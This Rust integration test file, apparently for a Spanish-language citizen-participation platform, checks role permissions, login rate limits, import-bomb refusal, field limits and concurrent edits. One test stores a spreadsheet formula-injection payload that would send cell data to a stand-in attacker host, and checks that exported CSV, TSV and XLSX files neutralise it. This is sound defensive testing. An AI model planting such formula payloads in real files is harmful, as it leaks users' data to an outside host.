    let preview = format!("/admin/planes/importar/{waiting}");
    check(
        "POST import the previewed file",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.post(&preview, c, &[]).await,
    );
    check(
        "POST end the other sessions",
        [SignIn, Allowed, Allowed, Allowed, Allowed],
        app.post("/admin/cuenta/sesiones", c, &[]).await,
    );
    check(
        "GET /admin/planes after ending the other sessions",
        [SignIn, Allowed, Allowed, Allowed, Allowed],
        app.get("/admin/planes", c).await,
    );
    // The platform's entities exist only for a platform administrator (none here);
    // the entity's own settings are its admin's. Last: a saved setting renames the site.
    check(
        "GET /admin/plataforma/entidades",
        [SignIn, NotFound, NotFound, NotFound, NotFound],
        app.get("/admin/plataforma/entidades", c).await,
    );
    check(
        "POST /admin/plataforma/entidades",
        [SignIn, NotFound, NotFound, NotFound, NotFound],
        app.post(
            "/admin/plataforma/entidades",
            c,
            &[("nombre", "Alcaldía de Duitama"), ("usuario", "duitama")],
        )
        .await,
    );
    check(
        "GET /admin/entidad",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.get("/admin/entidad", c).await,
    );
    check(
        "POST /admin/entidad with a colour too light",
        [SignIn, Invalid, Refused, Refused, Refused],
        app.post(
            "/admin/entidad",
            c,
            &[
                ("nombre", "Caja Honor"),
                ("orden", "nacional"),
                ("color", "#eeeeee"),
            ],
        )
        .await,
    );
    check(
        "POST an SVG as the entity's logo",
        [SignIn, Invalid, Refused, Refused, Refused],
        app.post_files(
            "/admin/entidad/logo",
            c,
            &[],
            &[(
                "logo",
                "logo.svg",
                b"<svg xmlns=\"http://www.w3.org/2000/svg\"/>",
            )],
        )
        .await,
    );
    check(
        "POST remove the entity's logo",
        [SignIn, Allowed, Refused, Refused, Refused],
        app.post("/admin/entidad/logo/quitar", c, &[]).await,
    );
    // Issue 19: every staff role reads the FURAG answers and the analysis of texts.
    for path in [
        "/admin/planes/1/furag",
        "/admin/planes/1/furag/furag.xlsx",
        "/admin/analisis",
        "/admin/analisis/sugerencias",
        "/admin/analisis/consultas/2",
        "/admin/analisis/audiencias/1",
    ] {
        check(
            &format!("GET {path}"),
            [SignIn, Allowed, Allowed, Allowed, Allowed],
            app.get(path, c).await,
        );
    }
    // Every registered staff route has a row: a route added without one fails here. A
    // request counts for the one route the router sends it to.
    let table = participa_web::route_table();
    let templates: Vec<&str> = table.iter().map(|r| r.path.as_str()).collect();
    let sent = app.sent.lock().unwrap().clone();
    for route in &table {
        if route.scope != participa_web::pages::routing::Scope::Staff {
            continue;
        }
        let covered = sent.iter().any(|(method, path)| {
            method == route.method && routed_to(&templates, path) == Some(route.path.as_str())
        });
        if !covered {
            failures.push(format!(
                "{} {}: registered, but the matrix has no row for it",
                route.method, route.path
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "role {user:?}:\n{}",
        failures.join("\n")
    );
}

/// What the participation rows of the role matrix act on, created by the admin: hearing 1
/// (with citizen question 1), survey 1, forum 2 (topic 1, comment 1) and suggestion 1.
async fn participation_fixtures(app: &TestApp) {
    let admin = app.login("admin").await;
    let admin = Some(admin.as_str());
    let today = participa_app::dates::today();
    let (opens, closes) = (
        today.to_string(),
        (today + chrono::Duration::days(30)).to_string(),
    );
    let later = (today + chrono::Duration::days(10)).to_string();
    let steps: Vec<(String, Option<&str>, Form)> = vec![
        (
            "/admin/audiencias".into(),
            admin,
            vec![
                ("titulo", "Audiencia pública de rendición de cuentas 2025"),
                ("fecha", "2025-07-30"),
                ("hora", "10:00"),
                ("lugar", "Bogotá"),
                ("transmision", ""),
                ("informe", ""),
                ("informe_fecha", ""),
                ("convocatoria", "Sitio web"),
                ("actividad", "1:4"),
            ],
        ),
        (
            "/audiencias/1/preguntas".into(),
            None,
            vec![("pregunta", "¿Cuándo habrá feria de vivienda en Cali?")],
        ),
        (
            "/admin/consultas".into(),
            admin,
            vec![
                ("titulo", "Encuesta previa"),
                ("abre", &opens),
                ("cierra", &closes),
                ("actividad", "1:2"),
            ],
        ),
        (
            "/admin/consultas".into(),
            admin,
            vec![
                ("titulo", "Foro previo"),
                ("tipo", "foro"),
                ("moderacion", "previa"),
                ("abre", &opens),
                ("cierra", &closes),
                ("actividad", "1:2"),
            ],
        ),
        (
            "/admin/consultas/2/temas".into(),
            admin,
            vec![("titulo", "Vivienda"), ("texto", "¿Qué le preocupa?")],
        ),
        (
            "/admin/consultas/1/preguntas".into(),
            admin,
            vec![("texto", "¿Qué temas quiere oír?"), ("tipo", "texto")],
        ),
        (
            "/admin/consultas".into(),
            admin,
            vec![
                ("titulo", "Encuesta en borrador"),
                ("abre", &later),
                ("cierra", &closes),
            ],
        ),
        (
            "/admin/consultas/3/preguntas".into(),
            admin,
            vec![
                ("texto", "¿Asistirá?"),
                ("tipo", "unica"),
                ("opciones", "Sí\nNo"),
            ],
        ),
        (
            "/consultas/2/respuestas".into(),
            None,
            vec![
                ("tema", "1"),
                ("comentario", "Más ferias en Cali, por favor."),
            ],
        ),
        (
            "/sugerencias".into(),
            None,
            vec![
                ("categoria", "vivienda"),
                ("texto", "Más ferias de vivienda."),
            ],
        ),
    ];
    for (path, cookie, form) in steps {
        let r = app.post(&path, cookie, &form).await;
        assert_eq!(
            r.status,
            StatusCode::SEE_OTHER,
            "fixture {path}: {}",
            r.body
        );
    }
}

/// The template the router picks for `path`: of those it matches, the one whose first
/// differing segment is written out rather than a `{parameter}` (as axum's router does).
fn routed_to<'a>(templates: &[&'a str], path: &str) -> Option<&'a str> {
    let path = match path.trim_end_matches('/') {
        "" => "/",
        p => p,
    };
    templates
        .iter()
        .copied()
        .filter(|t| path_matches(t, path))
        .max_by(|a, b| {
            let static_at =
                |t: &str| -> Vec<bool> { t.split('/').map(|seg| !seg.starts_with('{')).collect() };
            static_at(a).cmp(&static_at(b))
        })
}

#[test]
fn a_request_counts_for_the_route_the_router_picks() {
    let templates = ["/admin/usuarios/{id}", "/admin/usuarios/nuevo", "/admin"];
    assert_eq!(
        routed_to(&templates, "/admin/usuarios/nuevo"),
        Some("/admin/usuarios/nuevo")
    );
    assert_eq!(
        routed_to(&templates, "/admin/usuarios/3"),
        Some("/admin/usuarios/{id}")
    );
    assert_eq!(routed_to(&templates, "/admin/"), Some("/admin"));
    assert_eq!(routed_to(&templates, "/admin/otra/cosa"), None);
}

/// Whether a concrete path is an instance of a route template (`{id}` matches any
/// segment).
fn path_matches(template: &str, path: &str) -> bool {
    let (t, p): (Vec<&str>, Vec<&str>) = (template.split('/').collect(), path.split('/').collect());
    t.len() == p.len()
        && t.iter()
            .zip(&p)
            .all(|(t, p)| (t.starts_with('{') && t.ends_with('}') && !p.is_empty()) || t == p)
}

macro_rules! on_both_backends {
    ($($test:ident => $body:expr;)*) => {
        mod sqlite {
            use super::*;
            $(#[tokio::test] async fn $test() { let db = participa_store::testing::sqlite(); ($body)(db).await })*
        }
        mod postgres {
            use super::*;
            $(#[tokio::test] async fn $test() { let db = participa_store::testing::postgres().await; ($body)(db).await })*
        }
    };
}

on_both_backends! {
    a_public_page_is_kept_for_a_moment_and_a_write_shows_at_once => super::a_public_page_is_kept_for_a_moment_and_a_write_shows_at_once;
    another_entitys_ids_are_missing_on_every_route_for_every_role => super::another_entitys_ids_are_missing_on_every_route_for_every_role;
    the_national_dashboard_shows_the_entities_each_observer_was_given => super::the_national_dashboard_shows_the_entities_each_observer_was_given;
    each_entity_has_its_own_site_by_host_name_and_by_prefix => super::each_entity_has_its_own_site_by_host_name_and_by_prefix;
    a_platform_administrator_adds_an_entity_with_its_first_admin => super::a_platform_administrator_adds_an_entity_with_its_first_admin;
    an_entity_admin_sets_its_name_footer_colour_and_logo => super::an_entity_admin_sets_its_name_footer_colour_and_logo;
    each_user_reads_and_opens_only_their_own_notifications => super::each_user_reads_and_opens_only_their_own_notifications;
    matrix_anonymous => |db| role_matrix(db, 0, None);
    matrix_admin => |db| role_matrix(db, 1, Some("admin"));
    matrix_reporter => |db| role_matrix(db, 2, Some("reporter"));
    matrix_auditor => |db| role_matrix(db, 3, Some("auditor"));
    matrix_approver => |db| role_matrix(db, 4, Some("approver"));
    csrf_and_sessions => super::csrf_and_sessions;
    sign_in_never_sends_a_browser_to_another_site => super::sign_in_never_sends_a_browser_to_another_site;
    a_password_change_or_reset_ends_the_other_sessions => super::a_password_change_or_reset_ends_the_other_sessions;
    staff_pages_are_not_cached_and_https_is_remembered => super::staff_pages_are_not_cached_and_https_is_remembered;
    parallel_guesses_are_counted_and_strangers_cannot_lock_staff_out => super::parallel_guesses_are_counted_and_strangers_cannot_lock_staff_out;
    concurrent_edits_of_one_plan_all_land => super::concurrent_edits_of_one_plan_all_land;
    only_the_planning_office_changes_who_is_responsible => super::only_the_planning_office_changes_who_is_responsible;
    weak_or_unchanged_passwords_are_refused => super::weak_or_unchanged_passwords_are_refused;
    every_text_field_is_bounded => super::every_text_field_is_bounded;
    malformed_addresses_are_answered_in_spanish => super::malformed_addresses_are_answered_in_spanish;
    a_missing_public_page_says_what_to_do_next => super::a_missing_public_page_says_what_to_do_next;
    forms_keep_input_and_show_errors => super::forms_keep_input_and_show_errors;
    an_import_is_previewed_its_columns_corrected_and_remembered => super::an_import_is_previewed_its_columns_corrected_and_remembered;
    a_corrected_file_is_imported_over_its_plan_and_nothing_is_dropped_silently => super::a_corrected_file_is_imported_over_its_plan_and_nothing_is_dropped_silently;
    versions_and_diff => super::versions_and_diff;
    the_open_data_catalogue_describes_every_public_file => super::the_open_data_catalogue_describes_every_public_file;
    rules_and_coverage => super::rules_and_coverage;
    followup_review_cycle => super::followup_review_cycle;
    the_footer_and_header_show_the_entity_as_configured => super::the_footer_and_header_show_the_entity_as_configured;
    the_footer_dates_the_entitys_latest_change_not_a_sign_in => super::the_footer_dates_the_entitys_latest_change_not_a_sign_in;
    published_reports => super::staff_publish_a_report_as_it_is_and_can_withdraw_it;
    the_demo_fills_every_page_and_each_answers => super::the_demo_fills_every_page_and_each_answers;
    deliverable_reports => super::deliverable_reports_of_suggestions_events_and_channels;
    survey_results_report => super::the_results_report_of_a_survey_suppresses_small_groups;
    forum_results_report => super::the_results_report_of_a_forum_quotes_without_names;
    menu_participa_calendar_and_archives => super::the_menu_participa_calendar_and_archives_show_the_published_plan;
    the_public_plan_page_shows_progress_and_published_evidence => super::the_public_plan_page_shows_progress_and_published_evidence;
    suggestions_campaign => super::suggestions_campaign;
    accountability_hearing => super::accountability_hearing;
    survey_consultation => super::survey_consultation;
    events_and_attendance => super::events_and_attendance;
    channel_figures_import => super::channel_figures_import;
    rejected_uploads_leave_nothing_behind => super::rejected_uploads_leave_nothing_behind;
    forum_with_moderation => super::forum_with_moderation;
    a_forum_page_shows_a_page_of_conversations_whatever_the_forum_holds => super::a_forum_page_shows_a_page_of_conversations_whatever_the_forum_holds;
    identified_survey_takes_one_answer_per_person => super::identified_survey_takes_one_answer_per_person;
    hostile_text_comes_back_escaped => super::hostile_text_comes_back_escaped;
    rate_limits_behind_a_trusted_proxy => super::rate_limits_behind_a_trusted_proxy;
    the_data_policy_is_linked_and_kept_with_consent => super::the_data_policy_is_linked_and_kept_with_consent;
    import_bombs_are_refused_on_a_short_page_and_write_nothing => super::import_bombs_are_refused_on_a_short_page_and_write_nothing;
    open_data_never_starts_a_cell_like_a_formula_and_the_tsv_imports_back => super::open_data_never_starts_a_cell_like_a_formula_and_the_tsv_imports_back;
    extreme_dates => super::extreme_dates_are_refused_with_a_message_naming_the_field;
    activity_dates_near_the_vigencia => super::activity_dates_stay_near_the_vigencia;
    attendee_counts => super::attendee_counts_are_bounded;
    consultation_before_it_opens => super::a_consultation_before_it_opens_says_when;
    generated_password_must_be_changed => super::a_generated_password_must_be_changed_before_anything_else;
    no_recovery_link_without_mail => super::without_a_mail_server_no_recovery_link_is_issued;
    user_form_offers_offices => super::the_user_form_offers_the_plans_offices_and_lands_on_the_list;
    account_page_sessions => super::the_account_page_lists_sessions_and_ends_the_others;
    forgotten_password => super::a_forgotten_password_is_recovered_with_a_single_use_link;
    coverage_in_plain_spanish => super::coverage_findings_read_as_sentences_and_are_acted_on_together;
    staff_pages_write_dates_as_colombia_reads_them => super::staff_pages_write_dates_as_colombia_reads_them;
    each_role_finds_what_waits_for_it_at_home => super::each_role_finds_what_waits_for_it_at_home;
    consultation_builder => super::consultation_builder_drafts_and_corrections;
    hearing_edit => super::an_edited_hearing_tells_its_registrants;
    plan_steps_are_confirmed => super::plan_steps_are_confirmed_and_say_what_happened;
    closing_a_period_shows_what_is_missing => super::closing_a_period_shows_what_is_missing_first;
    returned_reports_land_on_the_form => super::returned_reports_land_on_the_form_with_the_observations;
    texts_are_read_as_themes_and_campaigns => super::texts_are_read_as_themes_and_campaigns;
    the_furag_answers_are_proposed_from_the_plan => super::the_furag_answers_are_proposed_from_the_plan;
}

/// Issue 13, item 6: the review's bombs (a title of 150 MB, millions of tiny rows) and a
/// file with thousands of bad rows are refused on a page of a few KB; nothing is written,
/// and the staff pages that list plans stay small.
async fn import_bombs_are_refused_on_a_short_page_and_write_nothing(db: TestDatabase) {
    use bombs::Workbook;
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let before = app.get("/admin/planes", Some(&admin)).await.body.len();
    let import = |name: &'static str, bytes: Vec<u8>| {
        let admin = admin.clone();
        let app = &app;
        async move {
            app.post_files(
                "/admin/planes/importar",
                Some(&admin),
                &[],
                &[("archivo", name, &bytes)],
            )
            .await
        }
    };
    let title = Workbook {
        title_padding: 150_000_000,
        ..Workbook::seed()
    }
    .xlsx();
    let rows = Workbook {
        extra_rows: 3_000_000,
        ..Workbook::seed()
    }
    .xlsx();
    for (name, bytes, says) in [
        ("titulo.xlsx", title, "la parte «xl/sharedStrings.xml» del libro ocupa 144 MB al descomprimirla, y se leen hasta 8 MB"),
        ("filas.xlsx", rows, "la parte «xl/worksheets/sheet1.xml» del libro ocupa 75 MB al descomprimirla, y se leen hasta 16 MB"),
    ] {
        let r = import(name, bytes).await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{name}: {:.500}", r.body);
        assert!(
            r.body.contains(&format!("No se importó nada de «{name}»: 1 error")),
            "{name}: {:.3000}",
            r.body
        );
        assert!(r.body.contains(says), "{name}: {:.3000}", r.body);
        assert!(r.body.len() < 20_000, "{name}: a page of {} bytes", r.body.len());
    }
    // Thousands of bad rows: the first 100 listed, the rest counted.
    let r = import("malo.txt", bombs::seed_text_with(4_000, "dato\tsuelto")).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        r.body
            .contains("No se importó nada de «malo.txt»: 4\u{a0}000 errores"),
        "{:.3000}",
        r.body
    );
    assert_eq!(r.body.matches("<li>").count() - before_items(&r.body), 100);
    assert!(
        r.body.contains("y 3\u{a0}900 errores más"),
        "{:.3000}",
        r.body
    );
    assert!(r.body.len() < 60_000, "a page of {} bytes", r.body.len());
    // Nothing was written, and the list of plans is as it was.
    assert_eq!(app.store.plans().await.unwrap().len(), 1);
    let after = app.get("/admin/planes", Some(&admin)).await.body.len();
    assert_eq!(after, before);
}

/// The `<li>` of a page outside its error summary (the navigation's).
fn before_items(page: &str) -> usize {
    let summary = page.find("id=\"errores\"").unwrap_or(page.len());
    let end = page[summary..]
        .find("</ul>")
        .map_or(page.len(), |i| summary + i);
    page.matches("<li>").count() - page[summary..end].matches("<li>").count()
}

/// Issue 13, item 8: the published plan's CSV and TSV never start a cell the way a
/// spreadsheet formula starts, the XLSX holds such texts as strings, and the TSV imports
/// back to the same plan.
async fn open_data_never_starts_a_cell_like_a_formula_and_the_tsv_imports_back(db: TestDatabase) {
    use participa_formats::formula_guard::TRIGGERS;
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let description = "=HYPERLINK(\"http://atacante.example/?d=\"&A1;\"Ver\")";
    let r = app
        .post(
            "/admin/planes/1/actividades/13/editar",
            Some(&admin),
            &[
                ("descripcion", description),
                ("inicio", "2025-02-05"),
                ("fin", "2025-11-28"),
                ("responsables", "ARCOM"),
                ("entregable", "-3 informes; @SUM(1+1)"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{:.2000}", r.body);
    app.to_status(&[
        Transition::Consolidate,
        Transition::Review,
        Transition::Approve,
        Transition::Publish,
    ])
    .await;
    let published = app
        .store
        .published_plan(PlanId(1))
        .await
        .unwrap()
        .unwrap()
        .plan;
    let edited = published
        .activities
        .iter()
        .find(|a| a.number.get() == 13)
        .unwrap();
    assert_eq!(edited.description, description);
    for (file, delimiter) in [("datos.csv", b','), ("datos.tsv", b'\t')] {
        let r = app.get(&format!("/planes/1/{file}"), None).await;
        assert_eq!(r.status, StatusCode::OK, "{file}");
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(delimiter)
            .has_headers(false)
            .flexible(true)
            .from_reader(r.bytes.as_slice());
        let mut found = false;
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(!cell.starts_with(TRIGGERS), "{file}: {cell:?}");
                found |= cell == format!("'{description}") || cell.ends_with(description);
            }
        }
        assert!(found, "{file}: the description is missing");
    }
    let tsv = app.get("/planes/1/datos.tsv", None).await.bytes;
    let back = import_plan("datos.tsv", &tsv, &ReadOptions::default()).unwrap();
    assert_eq!(back, published);
    let xlsx = app.get("/planes/1/datos.xlsx", None).await.bytes;
    let back = import_plan("datos.xlsx", &xlsx, &ReadOptions::default()).unwrap();
    assert_eq!(back, published);
}

/// A sign-in POST from client address `ip`, with the cookies given (the remembered
/// browser's, say).
fn sign_in_request(ip: &str, user: &str, password: &str, cookie: Option<&str>) -> Request<Body> {
    let body: String = form_urlencoded::Serializer::new(String::new())
        .extend_pairs([("usuario", user), ("clave", password)])
        .finish();
    let mut r = Request::post("/ingresar")
        .header(header::HOST, HOST)
        .header(header::ORIGIN, ORIGIN)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
    if let Some(c) = cookie {
        r = r.header(header::COOKIE, c);
    }
    let mut r = r.body(Body::from(body)).unwrap();
    let addr: std::net::SocketAddr = format!("{ip}:40000").parse().unwrap();
    r.extensions_mut().insert(axum::extract::ConnectInfo(addr));
    r
}

/// The `participa_equipo=…` pair a sign-in set, if any.
fn device_cookie(r: &Reply) -> Option<String> {
    r.headers
        .get_all(header::SET_COOKIE)
        .iter()
        .filter_map(|c| c.to_str().ok())
        .find(|c| c.starts_with("participa_equipo="))
        .map(|c| c.split(';').next().unwrap().to_string())
}

/// Issue 13, items 1, 9 and 18: however many wrong passwords arrive at once, no more than
/// five per user name are checked; strangers' failures (per name or per address) do not
/// keep staff out of a browser where they signed in before; the change-password form
/// does not give unlimited guesses at the current password; `Retry-After` tells the
/// truth.
async fn parallel_guesses_are_counted_and_strangers_cannot_lock_staff_out(db: TestDatabase) {
    let app = TestApp::new(db).await;
    // The admin signs in at the office: the browser is remembered.
    let first = app
        .send(sign_in_request("10.1.1.1", "admin", PASSWORD, None))
        .await;
    assert_eq!(first.status, StatusCode::SEE_OTHER);
    let set = first
        .headers
        .get_all(header::SET_COOKIE)
        .iter()
        .filter_map(|c| c.to_str().ok())
        .find(|c| c.starts_with("participa_equipo="))
        .expect("a remembered-browser cookie")
        .to_string();
    assert!(
        set.contains("HttpOnly") && set.contains("Path=/ingresar"),
        "{set}"
    );
    let office = device_cookie(&first).unwrap();

    // Forty wrong passwords for "admin" at the same moment, from a stranger.
    let tries: Vec<_> = (0..40)
        .map(|_| {
            let router = app.router.clone();
            let request = sign_in_request("198.51.100.9", "admin", "no es la clave", None);
            tokio::spawn(async move { router.oneshot(request).await.unwrap() })
        })
        .collect();
    let (mut checked, mut refused) = (0, 0);
    for t in tries {
        let response = t.await.unwrap();
        match response.status() {
            StatusCode::UNAUTHORIZED => checked += 1,
            StatusCode::TOO_MANY_REQUESTS => {
                refused += 1;
                let wait: u64 = response.headers()[header::RETRY_AFTER]
                    .to_str()
                    .unwrap()
                    .parse()
                    .unwrap();
                assert!((1..=900).contains(&wait), "Retry-After {wait}");
            }
            other => panic!("unexpected {other}"),
        }
    }
    assert_eq!(
        (checked, refused),
        (5, 35),
        "five checked, the rest refused"
    );
    // The right password from a new browser is refused for now ...
    let fresh = app
        .send(sign_in_request("10.1.1.2", "admin", PASSWORD, None))
        .await;
    assert_eq!(fresh.status, StatusCode::TOO_MANY_REQUESTS);
    assert!(fresh.body.contains("Espere"), "{}", fresh.body);
    // ... but the admin's own browser still gets in, and a wrong password there counts
    // only against that browser.
    let mine = app
        .send(sign_in_request(
            "10.1.1.1",
            "admin",
            PASSWORD,
            Some(&office),
        ))
        .await;
    assert_eq!(mine.status, StatusCode::SEE_OTHER, "{}", mine.body);
    assert!(
        device_cookie(&mine).is_none(),
        "the browser is already remembered"
    );
    // A cookie of another user's browser is no pass for this name.
    let reporter = app
        .send(sign_in_request("10.1.1.3", "reporter", PASSWORD, None))
        .await;
    let reporter_device = device_cookie(&reporter).unwrap();
    let borrowed = app
        .send(sign_in_request(
            "10.1.1.3",
            "admin",
            PASSWORD,
            Some(&reporter_device),
        ))
        .await;
    assert_eq!(borrowed.status, StatusCode::TOO_MANY_REQUESTS);

    // Twenty failures from one address, each for a different name, lock that address
    // for strangers, not for a remembered browser behind it.
    for i in 0..20 {
        let r = app
            .send(sign_in_request(
                "203.0.113.7",
                &format!("nadie{i}"),
                "x",
                None,
            ))
            .await;
        assert_eq!(r.status, StatusCode::UNAUTHORIZED);
    }
    let stranger = app
        .send(sign_in_request("203.0.113.7", "auditor", PASSWORD, None))
        .await;
    assert_eq!(stranger.status, StatusCode::TOO_MANY_REQUESTS);
    let auditor = app
        .send(sign_in_request("10.1.1.4", "auditor", PASSWORD, None))
        .await;
    let auditor_device = device_cookie(&auditor).unwrap();
    let behind = app
        .send(sign_in_request(
            "203.0.113.7",
            "auditor",
            PASSWORD,
            Some(&auditor_device),
        ))
        .await;
    assert_eq!(behind.status, StatusCode::SEE_OTHER, "{}", behind.body);

    // An insider alternating guesses at other names with their own sign-ins does not
    // keep the address's count from filling: only five right passwords per window give
    // an attempt back.
    for i in 0..10 {
        let miss = app
            .send(sign_in_request(
                "192.0.2.50",
                &format!("otro{i}"),
                "x",
                None,
            ))
            .await;
        assert_eq!(miss.status, StatusCode::UNAUTHORIZED);
        let hit = app
            .send(sign_in_request("192.0.2.50", "approver", PASSWORD, None))
            .await;
        assert_eq!(hit.status, StatusCode::SEE_OTHER);
    }
    for i in 0..5 {
        let miss = app
            .send(sign_in_request("192.0.2.50", &format!("mas{i}"), "x", None))
            .await;
        assert_eq!(miss.status, StatusCode::UNAUTHORIZED, "attempt {i}");
    }
    let full = app
        .send(sign_in_request("192.0.2.50", "mas9", "x", None))
        .await;
    assert_eq!(full.status, StatusCode::TOO_MANY_REQUESTS);

    // The current password on the change form: five wrong guesses, then a wait.
    let session = auditor.cookie.unwrap();
    let new = "otra clave de prueba bastante larga";
    for _ in 0..5 {
        let r = app
            .post(
                "/admin/cuenta/clave",
                Some(&session),
                &[("actual", "adivinando"), ("nueva", new), ("repetir", new)],
            )
            .await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    }
    let r = app
        .post(
            "/admin/cuenta/clave",
            Some(&session),
            &[("actual", PASSWORD), ("nueva", new), ("repetir", new)],
        )
        .await;
    assert_eq!(r.status, StatusCode::TOO_MANY_REQUESTS);

    // A new password forgets the browsers remembered under the old one (whoever once
    // signed in keeps no guesses of their own); the browser that changed it is
    // remembered again.
    let admin_session = mine.cookie.unwrap();
    let changed = app
        .post(
            "/admin/cuenta/clave",
            Some(&admin_session),
            &[("actual", PASSWORD), ("nueva", new), ("repetir", new)],
        )
        .await;
    assert_eq!(changed.status, StatusCode::OK, "{}", changed.body);
    let renewed = device_cookie(&changed).expect("the changing browser is remembered again");
    let old_browser = app
        .send(sign_in_request("10.1.1.1", "admin", new, Some(&office)))
        .await;
    assert_eq!(
        old_browser.status,
        StatusCode::TOO_MANY_REQUESTS,
        "the old cookie is a stranger's now"
    );
    let this_browser = app
        .send(sign_in_request("10.1.1.1", "admin", new, Some(&renewed)))
        .await;
    assert_eq!(
        this_browser.status,
        StatusCode::SEE_OTHER,
        "{}",
        this_browser.body
    );
    // A remembered browser that uses up its own attempts is forgotten: a stolen cookie
    // gives five guesses in all.
    for _ in 0..5 {
        let r = app
            .send(sign_in_request(
                "10.1.1.1",
                "admin",
                "robada",
                Some(&renewed),
            ))
            .await;
        assert_eq!(r.status, StatusCode::UNAUTHORIZED);
    }
    let after = app
        .send(sign_in_request("10.1.1.1", "admin", new, Some(&renewed)))
        .await;
    assert_eq!(after.status, StatusCode::TOO_MANY_REQUESTS);
    let token = renewed.trim_start_matches("participa_equipo=");
    assert_eq!(app.store.trusted_device_user(token).await.unwrap(), None);
}

/// Issue 13, item 7: staff saves of different activities (and the header) at the same
/// moment all land, none answers 500, and none is lost.
async fn concurrent_edits_of_one_plan_all_land(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    for round in 0..5 {
        let (d13, d12, d14) = (
            format!("Redes sociales, ronda {round}"),
            format!("Seguimiento de canales, ronda {round}"),
            format!("Contenidos del sitio, ronda {round}"),
        );
        let mut header = header_form();
        let title = format!("Plan de Participación Ciudadana 2025 (ronda {round})");
        header[0] = ("titulo", &title);
        let (f13, f12, f14) = (
            activity_form(&d13, "ARCOM"),
            activity_form(&d12, "ASERA"),
            activity_form(&d14, "ARCOM"),
        );
        let (a, b, c, h) = tokio::join!(
            app.post("/admin/planes/1/actividades/13/editar", Some(&admin), &f13),
            app.post("/admin/planes/1/actividades/12/editar", Some(&admin), &f12),
            app.post("/admin/planes/1/actividades/14/editar", Some(&admin), &f14),
            app.post("/admin/planes/1/editar", Some(&admin), &header),
        );
        for r in [&a, &b, &c, &h] {
            assert_eq!(r.status, StatusCode::SEE_OTHER, "round {round}: {}", r.body);
        }
        let plan = app.store.plan(PlanId(1)).await.unwrap();
        let description = |n: u32| {
            plan.activities
                .iter()
                .find(|x| x.number.get() == n)
                .unwrap()
                .description
                .clone()
        };
        assert_eq!(description(13), d13, "round {round}");
        assert_eq!(description(12), d12, "round {round}");
        assert_eq!(description(14), d14, "round {round}");
        assert_eq!(plan.title, title, "round {round}");
    }
}

/// Issue 13, items 16 and 18: a responsible office edits its activity but cannot take
/// a co-responsible office off it (nor hand it over); an office sent many times counts
/// once.
async fn only_the_planning_office_changes_who_is_responsible(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let reporter = app.login("reporter").await;
    let form = app
        .get("/admin/planes/1/actividades/3/editar", Some(&reporter))
        .await;
    assert_eq!(form.status, StatusCode::OK);
    assert!(
        !form.body.contains(r#"name="responsables""#),
        "no office checkboxes for a responsible office"
    );
    assert!(form.body.contains("Solo la Oficina de Planeación cambia"));
    // Taking OAPLA off is refused, and nothing changes.
    let r = app
        .post(
            "/admin/planes/1/actividades/3/editar",
            Some(&reporter),
            &activity_form("Divulgación de la convocatoria, sin OAPLA", "ARCOM"),
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    // The form as the page draws it (no offices) saves the rest.
    let mut without_offices = activity_form("Divulgación de la convocatoria, por ARCOM", "");
    without_offices.retain(|(k, _)| *k != "responsables");
    let r = app
        .post(
            "/admin/planes/1/actividades/3/editar",
            Some(&reporter),
            &without_offices,
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let plan = app.store.plan(PlanId(1)).await.unwrap();
    let a3 = plan
        .activities
        .iter()
        .find(|a| a.number.get() == 3)
        .unwrap();
    assert_eq!(a3.description, "Divulgación de la convocatoria, por ARCOM");
    let offices: Vec<&str> = a3.responsible.iter().map(|c| c.as_str()).collect();
    assert_eq!(offices, ["OAPLA", "ARCOM"], "OAPLA stays responsible");
    // The planning office does change them; repeats count once.
    let admin = app.login("admin").await;
    let mut many = activity_form("Divulgación de la convocatoria", "ARCOM");
    many.extend(std::iter::repeat_n(("responsables", "ARCOM"), 1500));
    let r = app
        .post("/admin/planes/1/actividades/3/editar", Some(&admin), &many)
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let plan = app.store.plan(PlanId(1)).await.unwrap();
    let a3 = plan
        .activities
        .iter()
        .find(|a| a.number.get() == 3)
        .unwrap();
    let offices: Vec<&str> = a3.responsible.iter().map(|c| c.as_str()).collect();
    assert_eq!(offices, ["ARCOM"]);
}

/// Issue 13, item 14: a weak password, or the current one again, is refused with the
/// reason in Spanish, and the form keeps nothing of the passwords typed.
async fn weak_or_unchanged_passwords_are_refused(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let session = app.login("approver").await;
    for (new, why) in [
        ("aaaaaaaaaaaa", "fácil de adivinar"),
        ("123456789012", "fácil de adivinar"),
        (PASSWORD, "distinta de la actual"),
    ] {
        let r = app
            .post(
                "/admin/cuenta/clave",
                Some(&session),
                &[("actual", PASSWORD), ("nueva", new), ("repetir", new)],
            )
            .await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{new}");
        assert!(r.body.contains(why), "{new}: {}", r.body);
        assert!(!r.body.contains(&format!(r#"value="{new}""#)));
    }
    // The password is still the old one.
    app.login("approver").await;
}

/// Issue 13, item 3: whatever is sent, no field longer than its limit is stored or
/// logged; the refusal names the field and the limit, and the pages draw each field
/// with that `maxlength`, so a person in a browser never loses text to it.
async fn every_text_field_is_bounded(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let log_before = app.get("/admin/auditoria", Some(&admin)).await.body.len();
    let huge = "x".repeat(300_000);
    for _ in 0..3 {
        let r = app
            .post("/ingresar", None, &[("usuario", &huge), ("clave", "x")])
            .await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST);
        assert!(
